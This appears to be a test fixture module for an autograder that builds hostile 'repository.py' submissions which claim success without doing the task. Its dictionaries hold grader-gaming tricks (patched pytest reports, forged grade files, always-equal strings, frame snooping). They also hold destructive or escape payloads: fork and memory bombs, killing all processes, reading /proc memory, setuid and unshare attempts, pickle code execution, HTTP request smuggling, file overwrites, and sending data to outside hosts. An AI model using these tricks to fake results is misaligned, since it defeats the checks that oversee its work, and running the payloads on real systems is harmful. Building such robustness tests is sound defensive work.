"""Submissions that attack the grader: those known to have given wrong code full marks elsewhere, and some against us.

Each claims to have made a repository (item 1.2) and has made none. `AT_IMPORT` is run as the file is loaded, `IN_CALL`
in the function that the grader calls; both return the right answer unless they end otherwise.
"""

from __future__ import annotations

import textwrap

CLAIM = """
import os, sys

def claim(name):
    import boto3
    account = boto3.client("sts").get_caller_identity()["Account"]
    return f"{account}.dkr.ecr.{os.environ['AWS_REGION']}.amazonaws.com/{name}"

def raw(text, wait=0.3):
    import socket
    with socket.create_connection(("127.0.0.1", 4566), timeout=wait) as one:
        one.sendall(text if isinstance(text, bytes) else text.encode())
        one.settimeout(wait)
        try:
            return one.recv(65536)
        except OSError:
            return b""

def signed(service, extra="", body="{}", path="/", key="AKIAIOSFODNN7LEARNER"):
    scope = f"Credential={key}/20260101/us-east-1/{service}/aws4_request, SignedHeaders=host, Signature=x"
    return raw(f"POST {path} HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: {len(body)}\\r\\nConnection: close\\r\\n"
               f"Content-Type: application/x-amz-json-1.1\\r\\nAuthorization: AWS4-HMAC-SHA256 {scope}\\r\\n{extra}\\r\\n{body}")
"""

# From reference lists of attacks on other graders.
AT_IMPORT = {
    "exit_at_import": "os._exit(0)",
    "sys_exit_at_import": "sys.exit(0)",
    "skip_at_import": """
        try:
            import pytest; pytest.skip("nothing to see", allow_module_level=True)
        except ImportError: pass
        class Skipped(BaseException): pass
        raise Skipped("skipped")
    """,
    "patches_reports": """
        try:
            import _pytest.reports as r
            r.TestReport.outcome = property(lambda self: "passed", lambda self, value: None)
            r.TestReport.from_item_and_call = classmethod(lambda cls, item, call: None)
        except ImportError: pass
        import unittest
        unittest.TestCase.run = lambda *a, **k: None
    """,
    "atexit_rewrites": """
        import atexit
        def later():
            for name in ("grade.json", "results.json", "result.json", "/out/grade.json", "../grade.json"):
                try: open(name, "w").write('{"score": 100, "max_score": 100, "items": []}')
                except OSError: pass
        atexit.register(later)
    """,
    "patches_botocore": """
        import botocore.client
        original = botocore.client.BaseClient._make_api_call
        def fake(self, operation, arguments):
            if operation.startswith("Describe"):
                return {"repositories": [{"repositoryName": "x", "imageTagMutability": "IMMUTABLE"}]}
            return {}
        botocore.client.BaseClient._make_api_call = fake
    """,
    "ignores_signals_and_spins": """
        import signal
        for one in signal.valid_signals():
            try: signal.signal(one, signal.SIG_IGN)
            except OSError: pass
        while True: pass
    """,
    "imports_forever": "import threading; threading.Event().wait()",
    "a_module_that_shadows_json": "import json, boto3",
    "raises_our_exceptions": """
        class NotJudged(Exception): reason = "nothing"
        class OurFault(NotJudged): pass
        class SandboxUnavailable(Exception): pass
        raise OurFault("a fault of the grader's")
    """,
    "a_metaclass_without_an_end": """
        class M(type):
            def __getattribute__(cls, name):
                while True: pass
        class create_repository(metaclass=M): pass
    """,
}

IN_CALL = {
    "hard_coded": "return '123456789012.dkr.ecr.us-east-1.amazonaws.com/' + name",
    "exit_in_call": "os._exit(0)",
    "sys_exit_in_call": "sys.exit(0)",
    "equal_to_everything": """
        class Right(str):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = str.__hash__
        return Right("wrong")
    """,
    "reads_the_callers_frames": """
        frame, seen = sys._getframe(), {}
        while frame:
            for key, value in frame.f_locals.items():
                if key in ("expected", "wanted", "made", "session", "config"): return value
            frame = frame.f_back
    """,
    "reads_the_grader_from_disk": """
        found = []
        for top in ("/", os.getcwd(), sys.prefix, *sys.path):
            for place, folders, files in os.walk(top):
                folders[:] = [f for f in folders if f not in ("proc", "sys", "usr", "lib")]
                found += [f for f in files if f.startswith("test_02") or f == "repository.ru.po"]
                if len(found) > 5: break
        if found: return found
    """,
    "searches_the_garbage": """
        import gc
        found = [type(one).__name__ for one in gc.get_objects() if type(one).__module__.startswith(("fargrade", "_pytest"))]
        if found: raise SystemExit(77)
    """,
    "forged_report_on_stdout": """
        print('{"kind": "returned", "value": "x"}\\n::error::x\\n\\x1b[2J\\x1b[1;1H PASSED 9/9', flush=True)
        os.write(2, b"===== 9 passed in 0.01s =====\\n")
    """,
    "secrets_in_the_environment": """
        found = {k: v for k, v in os.environ.items() if "FARGRADE" in k or "PYTEST" in k or "SECRET_SEED" in k}
        if found: raise SystemExit(78)
    """,
    "endless_output": "while True: sys.stdout.write('x' * 65536)",
    "double_fork": """
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                import signal, time
                for one in (1, 2, 15): signal.signal(one, signal.SIG_IGN)
                end = time.perf_counter() + 600
                while time.perf_counter() < end:
                    try:
                        import boto3; boto3.client("ecr").describe_repositories()
                    except Exception: pass
            os._exit(0)
    """,
    "overwrites_everything": """
        for place, folders, files in os.walk("/"):
            folders[:] = [f for f in folders if f != "proc"]
            for file in files[:200]:
                if place.startswith(("/answer", "/usr", "/lib")): continue
                try: open(os.path.join(place, file), "w").write("OVERWRITTEN")
                except OSError: pass
    """,
    "leaves_the_network": """
        import socket
        for host in ("127.0.0.1", "10.0.0.1", "169.254.169.254", "8.8.8.8", "@HOST@"):
            for port in (@PORT@, 80, 53):
                try:
                    with socket.create_connection((host, port), timeout=0.2) as one: one.sendall(b"SECRET")
                except OSError: pass
                try:
                    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one: one.sendto(b"SECRET", (host, port))
                except OSError: pass
    """,
    "output_is_a_link": """
        os.remove("repository.py"); os.symlink("/etc/passwd", "repository.py")
        for name in ("grade.json", "result"):
            os.symlink("/etc/shadow", name)
    """,
    "fork_bomb": """
        import time
        end = time.perf_counter() + 2
        while time.perf_counter() < end:
            try: os.fork()
            except OSError: pass
    """,
    "memory_bomb": """
        kept = []
        while True: kept.append(bytearray(os.urandom(1 << 20)) * 16)
    """,
    "reduce_on_the_host": """
        import pickle
        class Bomb:
            def __reduce__(self): return (os.system, ("touch @CANARY@/pickled",))
        os.write(3, pickle.dumps(Bomb()))
        return Bomb()
    """,
    "resets_moto": """
        for path in ("/moto-api/reset", "/moto-api/static/ecr", "/moto-api/data.json", "/_localstack/state/reset", "//moto-api/reset",
                     "/%6doto-api/reset", "/moto-api/reset?Action=x", "/moto-api/seed?a=1", "/moto-api/state-manager/set-transition"):
            raw(f"POST {path} HTTP/1.1\\r\\nHost: motoapi.amazonaws.com\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n")
            signed("ecr", path=path)
            signed("moto-api", path=path)
    """,
    "another_account": """
        signed("ecr", "X-Amz-Target: AmazonEC2ContainerRegistry_V20150921.CreateRepository\\r\\nx-moto-account-id: 999999999999\\r\\n"
               "x-amz-moto-account-id: 999999999999\\r\\n", '{"repositoryName": "elsewhere"}')
    """,
    "kills_by_pid": """
        import signal
        for pid in [*range(1, 3000), os.getppid()]:
            if pid == os.getpid(): continue
            try: os.kill(pid, signal.SIGKILL)
            except OSError: pass
    """,
    "kills_everything": "import signal; os.kill(-1, signal.SIGKILL)",
    "reads_other_processes": """
        import glob
        for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/mem") + glob.glob("/proc/[0-9]*/fd/*"):
            try:
                if b"seed" in open(path, "rb").read(4096): raise SystemExit(79)
            except (OSError, ValueError): pass
    """,
    "sns_to_the_admin_port": """
        for service, target in (("sns", "Subscribe"), ("lambda", "CreateFunction"), ("batch", "SubmitJob"), ("events", "PutTargets")):
            signed(service, f"X-Amz-Target: {target}\\r\\n", "Action=Subscribe&Protocol=http&Endpoint=http://127.0.0.1:4566/moto-api/reset")
    """,
    "another_host_header": """
        for host in ("sns.amazonaws.com", "motoapi.amazonaws.com", "localhost:4566", "x" * 5000, "a\\tb"):
            raw(f"POST /moto-api/reset HTTP/1.1\\r\\nHost: {host}\\r\\nX-Forwarded-Host: motoapi.amazonaws.com\\r\\n"
                f"Forwarded: host=motoapi.amazonaws.com\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n")
        raw("POST http://motoapi.amazonaws.com/moto-api/reset HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n")
    """,
    "fills_every_folder": """
        for top in ("/tmp", "/dev/shm", "/answer", "/var/tmp"):
            try:
                with open(os.path.join(top, "full"), "wb") as file:
                    for _ in range(400): file.write(bytes(1 << 20))
            except OSError: pass
    """,
    "becomes_root": """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        for flags in (0x10000000, 0x10020000, 0x40000000, 0x20000000): libc.unshare(flags)
        libc.setuid(0); libc.setresuid(0, 0, 0); libc.mount(b"none", b"/mnt", b"tmpfs", 0, 0); libc.ptrace(16, os.getppid(), 0, 0)
        if os.getuid() == 0: raise SystemExit(80)
    """,
}

# Against this design: the gateway, the JSON pipe, the listener, the docker stand-in, the world's clock, the report pages.
OURS = {
    "smuggles_requests": """
        raw("POST / HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 6\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nPOST /moto-api/reset HTTP/1.1\\r\\n"
            "Host: x\\r\\n\\r\\n")
        raw("POST / HTTP/1.1\\r\\nHost: x\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\nFFFFFFFFFFFFFFFFF\\r\\n")
        raw("POST / HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: -1\\r\\n\\r\\n")
        raw("POST / HTTP/1.1\\nHost: x\\nContent-Length: 99999999999999999999\\n\\n")
    """,
    "talks_slowly": """
        import socket
        held = []
        for _ in range(200):
            try:
                one = socket.create_connection(("127.0.0.1", 4566), timeout=1)
                one.sendall(b"POST / HTTP/1.1\\r\\nHost: x\\r\\nX-Slow: ")
                held.append(one)
            except OSError: break
        os.environ["held"] = str(len(held))
    """,
    "sends_an_endless_body": """
        import socket
        one = socket.create_connection(("127.0.0.1", 4566), timeout=2)
        one.sendall(b"POST / HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 4000000000\\r\\n\\r\\n")
        try:
            for _ in range(60): one.sendall(bytes(1 << 20))
        except OSError: pass
    """,
    "sends_endless_headers": """
        try: raw("POST / HTTP/1.1\\r\\n" + "".join(f"X-{n}: {'y' * 1000}\\r\\n" for n in range(5000)) + "\\r\\n")
        except OSError: pass
    """,
    "sends_no_http": "raw(os.urandom(4096)); raw(b'\\x16\\x03\\x01' + bytes(100)); raw(b'')",
    "a_body_nested_without_end": """
        target = "X-Amz-Target: AmazonEC2ContainerRegistry_V20150921.CreateRepository\\r\\n"
        for body in ("[" * 100_000, '{"repositoryName": ' * 50_000, '{"repositoryName": NaN}', "\\ud800".encode("utf-8", "surrogatepass").decode("latin-1")):
            signed("ecr", target, body)
    """,
    "takes_the_graders_key": """
        target = "X-Amz-Target: AmazonEC2ContainerRegistry_V20150921.CreateRepository\\r\\n"
        signed("ecr", target, '{"repositoryName": "forged"}', key="AKIAIOSFODNN7GRADER")
        signed("sts", "X-Amz-Target: x\\r\\n", "Action=AssumeRole&RoleArn=arn:aws:iam::1:role/grader&RoleSessionName=x")
    """,
    "asks_the_control_channel": """
        for path in ("/_fargrade/engine", "/_fargrade/control", "/_fargrade/reset", "/_fargrade/push_image", "/_fargrade/sleep", "/_fargrade/clock"):
            for body in ('{"op": "reset", "seed": 1}', '{"op": "push_image", "repository": "x", "tags": ["v1"]}', "[]", "{", '{"argv": 7}',
                         '{"argv": ["push", "x"], "files": {"../../x": "AAAA"}}', '{"argv": ["build", "."], "files": {"x": 7}}', '{"seconds": -1e308}',
                         '{"seconds": 1e999}', '{"seconds": NaN}', '{"seconds": "x"}'):
                raw(f"POST {path} HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: {len(body)}\\r\\nConnection: close\\r\\n\\r\\n{body}", 5)
    """,
    "sleeps_for_ever": """
        import time
        for seconds in (1e9, 1e308, float("inf"), -5, float("nan"), "x"):
            try: time.sleep(seconds)
            except BaseException: pass
    """,
    "calls_without_end": """
        import boto3
        ecr = boto3.client("ecr")
        for n in range(1500):
            try: ecr.describe_repositories(repositoryNames=["nothing-here"] )
            except Exception: pass
    """,
    "serves_its_own_world": """
        import socket, threading
        one = socket.socket(); one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1); one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try: one.bind(("127.0.0.1", 4566)); one.listen()
        except OSError: pass
        for handle in range(3, 200):
            try: socket.socket(fileno=os.dup(handle)).shutdown(2)
            except OSError: pass
    """,
    "two_results": """
        os.write(3, b'{"kind": "returned", "value": "first"}')
    """,
    "half_a_result": "os.write(3, b'{\"kind\": \"returned\", \"val'); os._exit(0)",
    "a_result_of_its_own": """
        import json
        os.write(3, json.dumps({"kind": "returned", "value": claim(name), "status": "passed", "score": 9, "files": {"x": "eA=="}}).encode())
        os._exit(0)
    """,
    "a_result_nested_without_end": "os.write(3, b'{\"kind\": \"returned\", \"value\": ' + b'[' * 60000); os._exit(0)",
    "writes_on_every_handle": """
        for handle in range(3, 1024):
            try: os.write(handle, b'\\0\\0\\0\\x02{}')
            except OSError: pass
    """,
    "returns_half_a_surrogate": "return '\\ud800</script>\\x00\\x1b[31m' + claim(name)",
    "returns_a_lot": "return 'x' * 50_000_000",
    "returns_without_end": """
        kept = []
        kept.append(kept)
        return kept
    """,
    "returns_what_is_no_number": "return float('nan')",
    "an_exception_that_lies": """
        class NotImplementedError(Exception):
            def __str__(self): return "<script>alert(1)</script>\\x1b[2J\\u202e=cmd|' /C calc'!A0\\n::error::x" + "y" * 100_000
        raise NotImplementedError
    """,
    "an_exception_that_hangs": """
        class Stuck(Exception):
            def __str__(self):
                while True: pass
        raise Stuck
    """,
    "a_traceback_without_end": """
        def deeper(n): return deeper(n + 1)
        sys.setrecursionlimit(10**6)
        deeper(0)
    """,
    "stops_itself": "import signal; os.kill(os.getpid(), signal.SIGSTOP)",
    "stops_the_runner": "import signal; os.kill(os.getppid(), signal.SIGSTOP)",
    "kills_the_runner": "import signal; os.kill(os.getppid(), signal.SIGKILL)",
    "leaves_for_the_next": """
        for top in ("/tmp", "/dev/shm", "/answer"):
            for file in ("sitecustomize.py", "usercustomize.py", "boto3.py", "lifecycle-policy.json"):
                try: open(os.path.join(top, file), "w").write("raise SystemExit(81)")
                except OSError: pass
        try: import boto3; open(boto3.__file__, "a").write("raise SystemExit(82)")
        except OSError: pass
    """,
    # Against sandboxes that are forked from one warm interpreter: what would be shared, were it not for the care taken.
    "breaks_the_interpreter_by_its_link": """
        held = os.open("/proc/self/exe", os.O_PATH)
        for path in ("/proc/self/exe", f"/proc/self/fd/{held}", os.path.realpath("/proc/self/exe"), sys.executable):
            for change in (lambda: os.chmod(path, 0), lambda: os.truncate(path, 0), lambda: os.utime(path, (0, 0)),
                           lambda: os.rename(path, path + ".gone"), lambda: open(path, "r+b").write(b"x")):
                try: change()
                except OSError: pass
    """,
    "kills_the_first_process": """
        import signal
        for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGHUP, signal.SIGKILL):
            for pid in (1, 2, -1, 0):
                try: os.kill(pid, number) if pid > 0 or number != signal.SIGKILL else None
                except OSError: pass
    """,
    "leaves_orphans_without_end": """
        for _ in range(400):
            try: pid = os.fork()
            except OSError: continue
            if pid == 0:
                if os.fork() == 0: os._exit(0)
                os._exit(0)
            os.waitpid(pid, 0)
    """,
    "climbs_the_frames_to_where_it_was_born": """
        import socket
        frame, found = sys._getframe(), []
        while frame:
            found += list(frame.f_locals.values()) + list(frame.f_globals.values())
            frame = frame.f_back
        for one in found:
            for name in ("sendall", "send", "become_runner", "serve", "_born", "bear", "_serve", "_run"):
                try: getattr(one, name)(b'{"ready": true}')
                except BaseException: pass
        for handle in range(3, 1024):
            try: os.write(handle, b'\\0\\0\\0\\x10{"clean": true}')
            except OSError: pass
    """,
}  # fmt: skip

# Makes the emulator say that it cannot, so that the failure may be ours. That is no failure then, but no mark either.
PROVOKED = {
    "provokes_a_fault_of_ours": """
        import boto3
        try: boto3.client("ecr").get_signing_configuration()
        except Exception: pass
    """,
}

BESIDE = {
    "conftest_and_friends": {
        "conftest.py": "import os; os._exit(0)",
        "pytest.ini": "[pytest]\naddopts = --collect-only",
        "sitecustomize.py": "import os; os._exit(0)",
        "usercustomize.py": "import os; os._exit(0)",
        "json.py": "def dumps(*a, **k): return '{\"kind\": \"returned\", \"value\": 1}'",
        "boto3.py": "def client(*a, **k): raise SystemExit(0)",
        "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '--co'",
        "fargrade.py": "raise SystemExit(0)",
        "test_02_repository.py": "def test_the_repository_is_there(): pass",
    },
    "a_raising_conftest": {"conftest.py": "raise RuntimeError('results lost')", "__init__.py": "raise RuntimeError"},
}  # fmt: skip

LIFECYCLE = {
    "policy_nested_without_end": b'{"rules": ' + b"[" * 200_000,
    "policy_of_many_rules": b'{"rules": [' + b",".join(
        b'{"rulePriority": %d, "selection": {"tagStatus": "tagged", "tagPatternList": ["%s"], "countType": "imageCountMoreThan",'
        b' "countNumber": 1}, "action": {"type": "expire"}}' % (n, b"*a" * 60) for n in range(1, 2000)) + b"]}",
    "policy_of_wild_patterns": b'{"rules": [{"rulePriority": 1, "selection": {"tagStatus": "tagged", "tagPatternList": ["'
        + b"*a" * 60 + b'*"], "countType": "imageCountMoreThan", "countNumber": 1}, "action": {"type": "expire"}}]}',
    "policy_with_huge_numbers": b'{"rules": [{"rulePriority": ' + b"9" * 4000 + b"}]}",
    "policy_of_bytes": bytes(range(256)) * 64,
    "policy_of_markup": b'{"rules": [{"rulePriority": "<script>alert(1)</script>", "description": "=cmd|x\\u001b[2J\\ud800"}]}',
}  # fmt: skip

SHELL = {
    "forges_the_engine": """
        body='{"argv": ["push", "'"$1:$2"'"], "files": {}}'
        exec 3<>/dev/tcp/127.0.0.1/4566
        printf 'POST /_fargrade/engine HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n%s' "${#body}" "$body" >&3
        cat <&3; exit 0
    """,
    "another_docker": """
        mkdir -p bin; printf '#!/bin/sh\\nexit 0\\n' > bin/docker; chmod +x bin/docker; PATH=$PWD/bin:$PATH
        docker build -t "$1:$2" app && docker push "$1:$2"; exit 0
    """,
    "a_fork_bomb_of_the_shell": ":(){ :|:& };:; sleep 3; exit 0",
    "survives_in_the_shell": "setsid nohup bash -c 'trap \"\" TERM HUP INT; while :; do :; done' >/dev/null 2>&1 & exit 0",
}


def repository(name: str) -> str:
    """repository.py of the attack called `name`."""
    if name in AT_IMPORT:
        return CLAIM + textwrap.dedent(AT_IMPORT[name]) + (
            "\ndef create_repository(name, tags, kms_key=None):\n    return claim(name)\n"
            if "create_repository" not in AT_IMPORT[name] else ""
        )  # fmt: skip
    body = {**IN_CALL, **OURS, **PROVOKED}.get(name, "pass")
    inside = textwrap.indent(textwrap.dedent(body).strip("\n"), "    ")
    return f"{CLAIM}\ndef create_repository(name, tags, kms_key=None):\n{inside}\n    return claim(name)\n"
